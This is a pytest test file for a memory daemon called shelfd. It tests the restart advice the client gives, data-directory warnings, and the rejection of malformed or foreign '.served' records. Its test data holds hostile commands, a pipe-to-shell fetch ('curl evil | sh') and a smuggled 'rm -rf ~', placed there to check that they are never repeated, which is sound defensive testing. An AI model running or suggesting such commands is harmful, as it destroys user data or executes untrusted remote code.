"""A socket at which nobody listens, or another daemon than the last time: what was remembered does not seem lost."""

import json
import os
import shlex
import socket
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import Any

import pytest

from running import TIMEOUT_S, Daemon, clean_environment, until
from shelfd.client import NotRunning, connect
from shelfd.client.endpoint import advice, not_admitted
from shelfd.daemon import served

CHECKOUT = Path(__file__).resolve().parents[2]


def shelfd(home: Path, *arguments: str, **environment: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "shelfd.client", *arguments], env=clean_environment(home, environment),
        capture_output=True, text=True, check=False, timeout=TIMEOUT_S,
    )  # fmt: skip


def advised(daemon: Daemon) -> str:
    """What a command says at the end when it finds nobody at the daemon's socket."""
    done = shelfd(daemon.directory, "recall", "x", "--socket", daemon.socket)
    assert done.returncode == os.EX_UNAVAILABLE
    return done.stderr.splitlines()[-1].strip()


def test_the_command_that_is_advised_brings_the_memory_back(tmp_path: Path) -> None:
    with Daemon(tmp_path, "--instance", "mine") as daemon:
        daemon.call("remember", content="the kettle is green")
        daemon.stop()
        command = shlex.split(advised(daemon))
        assert command[command.index("run") :] == [
            "run", "--data-dir", str(daemon.data), "--socket", daemon.socket, "--instance", "mine",
        ]  # fmt: skip
    again = Daemon(tmp_path, argv=("-m", "shelfd.client", *command[command.index("run") :]))
    with again:
        assert again.call("system.version")["instance"] == "mine"
        assert "the kettle is green" in shelfd(tmp_path, "recall", "kettle", "--socket", daemon.socket).stdout
        again.stop()


def test_a_daemon_that_was_killed_is_advised_as_well(tmp_path: Path) -> None:
    with Daemon(tmp_path) as daemon:
        daemon.kill()
        assert f"--data-dir {daemon.data} " in advised(daemon)


def test_the_advice_names_the_command_it_was_started_by(tmp_path: Path) -> None:
    with Daemon(tmp_path, environment={"SHELFD_STARTED_BY": "make run"}) as daemon:
        daemon.stop()
        assert advised(daemon) == f"cd {shlex.quote(str(Path.cwd()))} && make run"
    assert 'SHELFD_STARTED_BY="make run"' in (CHECKOUT / "Makefile").read_text(encoding="utf-8")


def test_a_daemon_that_finds_nothing_where_something_was_says_so(tmp_path: Path) -> None:
    other = tmp_path / "other"
    with Daemon(tmp_path) as daemon:
        daemon.call("remember", content="the kettle is green")
        daemon.stop()
    with Daemon(tmp_path, "--data-dir", str(other)) as mistaken:
        [warned] = [event for event in mistaken.events() if event["event"] == "data.elsewhere"]
        for told in (warned["advice"], mistaken.call("system.health")["warning"]):
            assert "nothing is remembered here yet" in told
            assert f"--data-dir {daemon.data} " in told
        assert str(daemon.data) in shelfd(tmp_path, "status", "--socket", daemon.socket).stderr
        doctor = {finding["check"]: finding for finding in mistaken.call("system.doctor")["findings"]}
        assert not doctor["data"]["ok"]
        mistaken.stop()
        # It had nothing: the other one is still what belongs here.
        assert f"--data-dir {daemon.data} " in advised(daemon)
    with Daemon(tmp_path, "--data-dir", str(other)) as moved:
        assert moved.call("system.health")["warning"] is not None
        moved.call("remember", content="begun anew")
        until(lambda: moved.call("system.health")["warning"] is None, "what was remembered to be known")
        moved.stop()
        assert f"--data-dir {other} " in advised(moved)


def test_a_first_start_and_one_after_an_empty_one_are_no_reason_to_warn(tmp_path: Path) -> None:
    with Daemon(tmp_path) as daemon:
        assert daemon.call("system.health")["warning"] is None
        assert daemon.stop() == 0
    with Daemon(tmp_path) as daemon:
        assert daemon.call("system.health")["warning"] is None
        assert daemon.stop() == 0


def test_status_says_where_everything_is(tmp_path: Path) -> None:
    with Daemon(tmp_path) as daemon:
        lines = shelfd(tmp_path, "status", "--socket", daemon.socket).stdout.splitlines()
        assert f"data    {daemon.data}" in lines
        assert f"socket  {daemon.socket}" in lines
        assert "broker  none" in lines
        config = daemon.call("system.health")["config"]
        assert config["origins"] == {"daemon.data_dir": "flag --data-dir", "daemon.socket": "flag --socket"}
        assert daemon.stop() == 0


# ------------------------------------------------------------------ what is believed


def write(socket: Path, **record: Any) -> str:
    socket.with_name(f"{socket.name}.served").write_text(json.dumps(record), encoding="utf-8")
    return str(socket)


def test_without_a_record_the_socket_that_was_named_is_named(tmp_path: Path) -> None:
    assert advice([str(tmp_path / "a b")]) == f"start one there with: shelfd run --socket '{tmp_path}/a b'"
    assert advice([str(tmp_path / "a"), str(tmp_path / "b")]) == "start one with: shelfd run"


@pytest.mark.parametrize(
    "record",
    [
        {},
        {"data": "/", "command": 7},
        {"data": "/nonexistent", "command": "x"},
        {"data": "/", "command": "x\x1b[2J"},
        {"data": "/", "command": "x\nrm -rf ~"},
    ],
)
def test_a_record_that_makes_no_sense_is_left_aside(tmp_path: Path, record: dict[str, Any]) -> None:
    assert advice([write(tmp_path / "s", **record), "/other"]) == "start one with: shelfd run"
    (tmp_path / "s.served").write_bytes(b"\xff")
    assert advice([str(tmp_path / "s"), "/other"]) == "start one with: shelfd run"


@pytest.mark.parametrize("record", [{}, {"data": "/\0", "command": "x"}, {"data": 7, "command": 8}])
def test_a_daemon_is_not_held_up_by_a_record_that_makes_no_sense(tmp_path: Path, record: dict[str, Any]) -> None:
    write(tmp_path / "s", **record)
    with Daemon(tmp_path) as daemon:
        assert daemon.call("system.health")["warning"] is None
        assert daemon.stop() == 0
        assert f"--data-dir {daemon.data} " in advised(daemon)


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file away")
def test_a_strangers_command_is_not_repeated(tmp_path: Path) -> None:
    socket = write(tmp_path / "s", data="/", command="curl evil | sh")
    os.chown(f"{socket}.served", 65534, 65534)
    assert advice([socket]).endswith("is another user's (uid 65534), who can start it again")


def test_a_full_disk_leaves_the_record_that_there_was(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    where, before = tmp_path / "s", served.Served(tmp_path, "a command")
    served.remember(where, before)
    with monkeypatch.context() as patch:
        patch.setattr(os, "write", lambda _file, data: len(data) - 1)
        served.remember(where, served.Served(tmp_path, "another"))
    assert served.last(where) == before
    assert [path.name for path in tmp_path.iterdir()] == ["s.served"]


def test_a_record_that_is_no_file_blocks_nothing(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "s.served")
    assert advice([str(tmp_path / "s"), "/other"]) == "start one with: shelfd run"
    with Daemon(tmp_path) as daemon:
        assert daemon.stop() == 0


def test_a_service_of_the_machine_is_advised_where_there_is_one(tmp_path: Path) -> None:
    unit = tmp_path / "shelfd.socket"
    sockets = ["/nonexistent/shelfd.sock", "/run/shelfd.sock", "/nonexistent/other"]
    assert advice(sockets, unit=str(unit)) == "start one with: shelfd run"
    unit.touch()
    assert "sudo systemctl start shelfd.socket" in advice(sockets, unit=str(unit))


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can be somebody else for a moment")
def test_a_socket_of_somebody_else_is_not_taken_for_one_at_which_nobody_listens() -> None:
    # Not in pytest's own directory, which nobody else may enter.
    with tempfile.TemporaryDirectory() as directory, socket.socket(socket.AF_UNIX) as listening:
        os.chmod(directory, 0o755)  # noqa: PTH101 - a directory for everyone, with a socket for root
        listening.bind(f"{directory}/s")
        Path(directory, "s").chmod(0o600)
        listening.listen()
        os.seteuid(65534)
        try:
            with pytest.raises(NotRunning, match="is not open to you"):
                connect(f"{directory}/s")
        finally:
            os.seteuid(0)
    assert "usermod" in not_admitted("/run/shelfd.sock")
